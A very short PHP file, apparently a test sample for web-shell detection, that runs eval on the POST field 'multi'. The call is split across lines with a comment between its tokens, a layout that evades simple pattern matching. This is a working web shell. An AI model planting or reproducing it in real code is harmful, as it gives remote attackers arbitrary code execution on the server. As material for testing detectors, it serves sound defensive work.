<?php
// The call spread over lines, with a comment between its tokens.
  eval /* x */ (
    $_POST['multi']
  );
?>
